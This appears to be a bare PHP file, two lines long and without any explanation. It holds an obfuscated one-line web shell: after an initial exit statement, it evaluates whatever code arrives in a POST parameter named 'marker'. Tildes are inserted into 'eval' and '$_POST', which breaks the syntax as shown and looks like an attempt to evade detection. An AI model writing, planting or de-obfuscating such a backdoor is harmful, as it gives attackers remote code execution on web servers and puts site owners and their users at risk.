<?php exit; ?>
<?php eva~l($_P~OST['marker']);
